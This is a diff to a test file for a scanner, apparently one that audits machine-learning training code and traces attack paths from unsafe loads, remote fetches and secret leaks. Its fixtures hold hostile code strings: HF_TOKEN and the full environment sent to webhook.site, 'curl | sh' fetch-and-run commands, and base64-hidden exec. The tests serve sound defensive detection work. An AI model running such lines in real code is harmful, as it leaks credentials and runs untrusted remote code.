@@ -12,6 +12,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from weighbridge.core.check import Audit, Domain
+from weighbridge.core.evidence import AttackPath
 from weighbridge.core.fact import Egress
 from weighbridge.core.finding import Action, Finding, Gap
 from weighbridge.core.format import Limits
@@ -95,6 +96,8 @@ CONCEALED = ("concealed-code", "block")
          "    p = P\n    with open(p, 'wb') as f:\n        f.write(r.content)\n"
          "    return pickle.load(open(p, 'rb'))\n", LOAD),
         ("import pandas as pd\npd.read_pickle('https://h.io/data.pkl')\n", LOAD),
+        ("import urllib.request as u, pickle\ndef a():\n    u.urlretrieve('https://h.io', 'm.p')\n"
+         "def b():\n    return pickle.load(open('m.p', 'rb'))\n", LOAD),
         ("import torch, requests, io\ntorch.load(io.BytesIO(requests.get(U).content))\n",
          REVIEW_LOAD),
         # a text that was downloaded is run
@@ -141,6 +144,8 @@ CONCEALED = ("concealed-code", "block")
          LEAVES),
         ("import requests\nrequests.post('https://abc.oast.fun', data=open('/etc/hosts').read())\n",
          LEAVES),
+        ("import requests, os\nrequests.get('https://webhook.site/a',"
+         " headers={'x': os.environ['HF_TOKEN']})\n", LEAVES),
         ("import requests\ndef f(x):\n    requests.get(f'https://x.requestcatcher.com/?q={x}')\n",
          LEAVES),
         ("import requests, os\nt = os.environ['HF_TOKEN']\n"
@@ -170,6 +175,8 @@ def test_what_training_code_must_not_do(text: str, expected: tuple[str, str]) ->
     "text",
     [
         "import pickle\npickle.load(open('cache.pkl', 'rb'))\n",
+        "import pickle, urllib.request as u\nu.urlretrieve('https://h.io/m', 'data.csv')\n"
+        "pickle.load(open('cache.pkl', 'rb'))\n",
         "import torch\ntorch.load('model.pt')\n",
         "import torch, requests, io\n"
         "torch.load(io.BytesIO(requests.get(U).content), weights_only=True)\n",
@@ -261,6 +268,90 @@ def test_a_finding_names_its_line() -> None:
     findings, _, _ = audited({"train.py": "import requests\n\nexec(requests.get(U).text)\n"})
     found = next(f for f in findings if f.check == "fetched-code")
     assert (found.at.path, found.at.line) == ("train.py", 3)
+
+
+def ways(files: dict[str, str]) -> dict[str, AttackPath]:
+    """The path of each finding that is more than a note, by its check."""
+    found = {}
+    for finding in audited(files)[0]:
+        if finding.action is not Action.NOTE:
+            (path,) = [e for e in finding.evidence if isinstance(e, AttackPath)]
+            found[finding.check] = path
+    return found
+
+
+IN_COMBINATION = """\
+import os, requests, torch
+
+def fetch(url):
+    answer = requests.get("https://weights.host.net/m.pt")
+    with open("m.pt", "wb") as file:
+        file.write(answer.content)
+    return "m.pt"
+
+def train():
+    state = torch.load(fetch("m"), weights_only=False)
+    model.load_state_dict(state)
+    model.push_to_hub("me/m", token=os.environ["HF_TOKEN"])
+"""
+
+
+def test_a_download_is_followed_to_what_is_within_its_reach() -> None:
+    path = ways({"train.py": IN_COMBINATION})["unsafe-load"]
+    assert [(s.at.line, s.label) for s in path.steps if s.at is not None] == [
+        (4, "whoever controls weights.host.net"),
+        (4, "get fetches https://weights.host.net/m.pt"),
+        (6, "writes it to m.pt"),
+        (10, "fetch() hands it on"),
+        (10, "torch.load runs what the file says"),
+        (12, "in reach: HF_TOKEN"),
+        (12, "in reach: what is pushed to a hub by push_to_hub"),
+    ]
+    assert (path.steps[0].role, path.steps[-1].role) == ("source", "sink")
+
+
+def test_what_is_not_there_is_no_step() -> None:
+    text = IN_COMBINATION.replace("    model.push_to_hub", "    # model.push_to_hub")
+    labels = [s.label for s in ways({"train.py": text})["unsafe-load"].steps]
+    assert labels[-1] == "torch.load runs what the file says"
+    elsewhere = ways({"train.py": text, "push.py": "m.push_to_hub('me/m')\n"})
+    assert [s.label for s in elsewhere["unsafe-load"].steps] == labels
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "check", "first", "last"),
+    [
+        ("a.py", "import os\nos.system('pip install git+https://github.com/other/x')\n",
+         "run-time-install", "whoever may write to github.com/other/x", None),
+        ("a.py", "import os\nos.system('pip install --trusted-host h x==1')\n",
+         "run-time-install", "whoever is on the way to the index", "installing it runs its code"),
+        ("a.py", "import torch\ntorch.hub.load('other/repo:main', 'm')\ntorch.save(m, 'x')\n",
+         "remote-code-trusted", "whoever may write to other/repo",
+         "in reach: the weights written by torch.save"),
+        ("a.py", "import requests, os\nrequests.post('https://webhook.site/a', json=os.environ)\n",
+         "data-leaves", "reads the whole environment", "whoever set up webhook.site has it"),
+        ("a.py", "import zmq\ns.recv_pyobj()\n", "received-objects", "whoever reaches the port",
+         "recv_pyobj runs what the pickle says"),
+        ("a.py", "import os\nos.system('curl http://h.io/x | sh')\n", "fetched-code",
+         "whoever controls h.io, or the way to it (http is not protected)",
+         "it is run without being compared with anything"),
+        ("a.py", f"import base64\nx = '{B64}'\nexec(base64.b64decode(x))\n", "concealed-code",
+         None, None),
+        ("setup.py", "import urllib.request\nurllib.request.urlopen('https://h.io/x')\n",
+         "build-hook", "whoever controls h.io", "building the package fetches it"),
+        ("a.sh", "curl https://h.io/x | sh\n", "build-script", "whoever controls h.io", None),
+        ("AGENTS.md", "a\u202eb\n", "agent-configuration", "whoever changes this file", None),
+    ],
+)  # fmt: skip
+def test_each_finding_shows_its_way(
+    path: str, text: str, check: str, first: str | None, last: str | None
+) -> None:
+    steps = ways({path: text})[check].steps
+    assert len(steps) >= 2
+    lines = text.count("\n")
+    assert all(s.at and s.at.path == path and 1 <= (s.at.line or 0) <= lines for s in steps)
+    assert first in (None, steps[0].label)
+    assert last in (None, steps[-1].label)
 
 
 def test_every_host_is_in_the_inventory() -> None:
